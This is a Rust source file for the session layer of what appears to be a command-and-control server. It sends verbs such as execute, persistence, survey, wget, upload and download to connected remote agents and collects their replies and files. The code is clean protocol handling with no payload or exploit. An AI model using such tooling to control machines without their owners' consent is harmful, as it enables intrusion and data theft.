//! Per-agent session state and the command protocol.
//!
//! A session owns one agent connection for its whole life. Commands enter
//! through [`Session::send`], which transmits the raw line and then drives
//! whatever response shape the verb calls for: nothing, a text frame, raw
//! file streams, or a fresh key exchange.

use std::net::SocketAddr;
use std::path::Path;

use tracing::{debug, info};

use crate::channel::{Channel, SecureChannel};
use crate::error::{Result, ServerError};

/// Verbs whose reply is exactly one encrypted text frame.
pub(crate) const TEXT_RESPONSE_COMMANDS: &[&str] =
    &["execute", "persistence", "scan", "survey", "unzip", "wget"];

/// Server-side state for one connected agent.
pub struct Session<C = SecureChannel> {
    id: u64,
    addr: SocketAddr,
    channel: C,
    alive: bool,
}

impl<C> Session<C> {
    /// Creates a session for a connection that has completed its handshake.
    pub fn new(id: u64, addr: SocketAddr, channel: C) -> Self {
        Self {
            id,
            addr,
            channel,
            alive: true,
        }
    }

    /// The registry-assigned id, unique for the process lifetime.
    pub fn id(&self) -> u64 {
        self.id
    }

    /// The agent's remote endpoint.
    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// False once the transport has been closed by `kill` or by a detected
    /// connection failure.
    pub fn is_alive(&self) -> bool {
        self.alive
    }
}

impl<C: Channel> Session<C> {
    /// Sends one command line to the agent and drives its response protocol.
    ///
    /// Returns the agent's text reply for verbs that produce one, `None`
    /// otherwise. A transport failure or timeout at any step marks the
    /// session dead and closes the transport; the caller is expected to drop
    /// it from the registry. File-transfer validation errors leave the
    /// session alive.
    pub async fn send(&mut self, line: &str) -> Result<Option<String>> {
        if !self.alive {
            // Dead sessions fail fast, without touching the network.
            return Err(ServerError::Connection("client not connected".to_string()));
        }

        let outcome = self.dispatch(line).await;
        if let Err(err) = &outcome {
            if err.severs_session() {
                debug!(id = self.id, %err, "session lost");
                self.channel.shutdown().await;
                self.alive = false;
            }
        }
        outcome
    }

    async fn dispatch(&mut self, line: &str) -> Result<Option<String>> {
        self.channel.send_text(line).await?;

        let (verb, rest) = split_verb(line);
        match verb {
            "kill" => {
                self.channel.shutdown().await;
                self.alive = false;
                Ok(None)
            }
            "download" => {
                for name in rest.split_whitespace() {
                    let path = Path::new(name);
                    if path.exists() {
                        // Fail fast; names already transferred stay on disk.
                        return Err(ServerError::FileAlreadyExists(path.to_path_buf()));
                    }
                    let bytes = self.channel.recv_file(path).await?;
                    debug!(id = self.id, name, bytes, "file received");
                }
                Ok(None)
            }
            "upload" => {
                for name in rest.split_whitespace() {
                    let path = Path::new(name);
                    if !path.is_file() {
                        return Err(ServerError::FileNotFound(path.to_path_buf()));
                    }
                    let bytes = self.channel.send_file(path).await?;
                    debug!(id = self.id, name, bytes, "file sent");
                }
                Ok(None)
            }
            "rekey" => {
                self.channel.rekey().await?;
                info!(id = self.id, "session rekeyed");
                Ok(None)
            }
            v if TEXT_RESPONSE_COMMANDS.contains(&v) => {
                let reply = self.channel.recv_text().await?;
                Ok(Some(reply.trim_end().to_string()))
            }
            // The console validates input against the vocabulary before it
            // reaches a session; nothing else expects a reply.
            _ => Ok(None),
        }
    }
}

/// Splits a command line at the first space into verb and argument.
pub(crate) fn split_verb(line: &str) -> (&str, &str) {
    match line.split_once(' ') {
        Some((verb, rest)) => (verb, rest),
        None => (line, ""),
    }
}
